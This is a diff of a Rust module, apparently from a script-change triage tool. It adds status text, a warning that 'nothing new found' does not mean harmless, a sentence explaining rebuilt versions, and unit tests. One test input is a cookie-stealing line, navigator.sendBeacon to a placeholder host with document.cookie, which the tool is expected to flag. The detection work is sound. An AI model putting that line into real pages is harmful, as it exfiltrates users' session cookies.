@@ -7,16 +7,18 @@ mod urgency;
 
 use jiff::Timestamp;
 use pinfold_triage::{
-    Capability, Change, Fact, Findings, Function, FunctionChange, Group, Host, Loss, Measure, Novelty, Site,
+    Capability, Change, Fact, Findings, Function, FunctionChange, FunctionCounts, Group, Host, Loss, Measure,
+    Novelty, Site,
 };
 
 use self::contents::Part;
 use self::difference::Shown;
 pub(super) use self::difference::{Difference, Names, Piece, query};
 use self::summary::Point;
+pub(super) use self::summary::Weight;
 pub use self::urgency::{Glance, Urgency};
 use super::evidence::{Triage, Verified};
-use super::words::{ago, counted, minute, size};
+use super::words::{ago, capitalised, counted, minute, size};
 use crate::text::Text;
 
 /// Functions of each kind that are listed.
@@ -33,6 +35,8 @@ const HOSTS: usize = 60;
 pub(super) struct Triaged {
     /// It is still being worked out.
     pub(super) is_running: bool,
+    /// What is known meanwhile, in one line.
+    pub(super) so_far: Option<Text>,
     /// Why nothing is said.
     pub(super) not_done: Option<Text>,
     /// Why there is no more.
@@ -43,6 +47,8 @@ pub(super) struct Triaged {
     /// How much of a change it is.
     pub(super) amount: Vec<String>,
     pub(super) summary: Vec<Point>,
+    /// That nothing new was found, and what that does not mean.
+    pub(super) nothing_new: Option<String>,
     pub(super) domains: Vec<Domain>,
     pub(super) more_hosts: usize,
     pub(super) groups: Vec<Grouped>,
@@ -144,7 +150,10 @@ impl Triaged {
     pub(super) fn of(triage: &Triage, now: Timestamp) -> Self {
         match triage {
             Triage::Done { verified, findings } => Self::found(verified.as_ref(), findings, now),
-            Triage::Running => Self { is_running: true, ..Self::default() },
+            Triage::Running(so_far) => {
+                let so_far = so_far.as_ref().map(|glance| Text::of(&capitalised(&glance.line)));
+                Self { is_running: true, so_far, ..Self::default() }
+            }
             Triage::NotDone(why) => Self { not_done: Some(Text::of(why)), ..Self::default() },
         }
     }
@@ -152,8 +161,10 @@ impl Triaged {
     fn found(verified: Option<&Verified>, findings: &Findings, now: Timestamp) -> Self {
         let difference = Difference::of(findings);
         let shown = difference.shown(&findings.diff);
+        let mut points = summary::points(findings, &shown);
         Self {
             is_running: false,
+            so_far: None,
             not_done: None,
             not_analysed: findings.not_analysed.as_ref().map(|why| Text::of(&why.text())),
             against: verified.map(|verified| Against {
@@ -164,7 +175,8 @@ impl Triaged {
             }),
             headline: headline(findings, verified.is_some()),
             amount: amount(findings, verified.is_some()),
-            summary: summary::points(findings, &shown),
+            nothing_new: nothing_new(findings, &mut points),
+            summary: points,
             domains: domains(&findings.hosts, &shown),
             more_hosts: findings.hosts.len().saturating_sub(HOSTS),
             groups: groups(&findings.facts, verified.is_some(), &shown),
@@ -172,10 +184,20 @@ impl Triaged {
             literals: literals(findings, &shown),
             more_literals: findings.literals.len().saturating_sub(LITERALS),
             functions: functions(findings, &shown),
-            rebuilt: findings.function_counts.rebuilt(),
+            rebuilt: rebuilt(&findings.function_counts),
             measures: findings.measures.iter().filter_map(Measure::text).collect(),
             contents: contents::parts(findings.contents.as_deref()),
             difference,
+        }
+    }
+
+    /// What the details are: where nothing is newly done, they do not say so.
+    pub(super) fn details_are(&self) -> &'static str {
+        let is_news = !(self.domains.is_empty() && self.groups.is_empty() && self.losses.is_empty());
+        match &self.against {
+            None => "All that it does",
+            Some(_) if is_news => "What it newly does",
+            Some(_) => "What changed",
         }
     }
 
@@ -211,9 +233,37 @@ fn headline(findings: &Findings, is_compared: bool) -> String {
     }
 }
 
-fn capitalised(text: &str) -> String {
-    let mut chars = text.chars();
-    chars.next().map(|first| first.to_uppercase().chain(chars).collect()).unwrap_or_default()
+/// That nothing new was found, and what that does not mean, in place of the point that says the first alone.
+fn nothing_new(findings: &Findings, points: &mut Vec<Point>) -> Option<String> {
+    let nothing = summary::nothing(findings)?;
+    let at = points.iter().position(|point| point.text == nothing)?;
+    points.remove(at);
+    Some(match findings.change {
+        Change::Same | Change::Trivia | Change::Names => format!(
+            "Nothing new was found: it {nothing}. That does not mean that it is harmless, only that it is as harmless as that one."
+        ),
+        Change::Data | Change::Code | Change::Contents | Change::Unknown => format!(
+            "Nothing new was found: it {nothing}. That does not mean that it is harmless: code can do harm with what it could do \
+             before. The changed lines below say what it does now."
+        ),
+        Change::New => format!(
+            "Nothing was found: it {nothing}. That does not mean that it is harmless: nobody has verified what stood here before."
+        ),
+    })
+}
+
+/// What is said in place of a list of functions, where that would name nearly all of them.
+fn rebuilt(counts: &FunctionCounts) -> Option<String> {
+    counts.rebuilt()?;
+    let FunctionCounts { reviewed, new, added, removed, .. } = *counts;
+    Some(format!(
+        "This version has {}, and {added} of them are like none of the verified version. The verified one has {}, and {removed} of \
+         them are like none of this version. That comes of a build with other tools or settings, which cuts and names everything \
+         anew, or of code that was written anew: these numbers do not tell which. So the functions are not listed one by one. The \
+         difference below has every line that changed.",
+        counted(new as u64, "function"),
+        counted(reviewed as u64, "function"),
+    ))
 }
 
 const KINDS: [FunctionChange; 4] =
@@ -233,7 +283,11 @@ fn amount(findings: &Findings, is_compared: bool) -> Vec<String> {
     amount.push(format!("{} added", counted(diff.added as u64, "line")));
     amount.push(format!("{} removed", counted(diff.removed as u64, "line")));
     let rebuilt = findings.function_counts.rebuilt();
-    amount.extend(rebuilt.as_deref().map(capitalised));
+    amount.extend(
+        rebuilt
+            .as_ref()
+            .map(|_| "Over a third of the functions are like none of the verified version".to_owned()),
+    );
     for how in KINDS {
         let count = findings.function_counts.of(how);
         if count > 0 && rebuilt.is_none() {
@@ -367,4 +421,53 @@ fn marks(findings: &Findings) -> impl Iterator<Item = (usize, Capability)> {
         fact.sites.iter().map(move |site| (site.line, capability)).collect::<Vec<_>>()
     };
     findings.facts.iter().flat_map(sites)
+}
+
+#[cfg(test)]
+mod tests {
+    use pinfold_triage::{Limits, compare};
+
+    use super::*;
+
+    fn found(old: &str, new: &str) -> Triaged {
+        let findings = compare(Some(old.as_bytes()), new.as_bytes(), Limits::default(), &|_| None);
+        let verified = Verified {
+            digest: pinfold_policy::digest::BodyId([0; 32]),
+            len: old.len() as u64,
+            at: Timestamp::UNIX_EPOCH,
+            learned: false,
+        };
+        Triaged::found(Some(&verified), &findings, Timestamp::UNIX_EPOCH)
+    }
+
+    #[test]
+    fn a_version_that_was_built_anew_is_said_to_be_so_in_sentences_with_the_numbers_of_both() {
+        let counts =
+            FunctionCounts { reviewed: 301, new: 401, added: 250, removed: 150, ..Default::default() };
+        let said = rebuilt(&counts).unwrap();
+        for part in ["401 functions, and 250 of them", "301 functions, and 150 of them", "do not tell which."]
+        {
+            assert!(said.contains(part), "{part}: {said}");
+        }
+        assert_eq!(rebuilt(&FunctionCounts { added: 1, ..counts }), None);
+    }
+
+    #[test]
+    fn where_nothing_new_was_found_a_sentence_says_so_and_what_that_does_not_mean() {
+        for (old, new, said) in [
+            ("f(1);", "f( 1 ); // one", "it does what the verified version does"),
+            ("f(1);", "f(2);", "names no new host"),
+            ("if (a > 1) f();", "if (a >= 1) f();", "names no new host"),
+        ] {
+            let quiet = found(old, new);
+            let nothing = quiet.nothing_new.unwrap();
+            assert!(
+                nothing.contains(said) && nothing.contains("does not mean that it is harmless"),
+                "{nothing}"
+            );
+            assert!(quiet.summary.is_empty(), "it is said once");
+        }
+        let loud = found("f(1);", "f(1); navigator.sendBeacon('https://a.test/', document.cookie)");
+        assert!(loud.nothing_new.is_none() && !loud.summary.is_empty());
+    }
 }
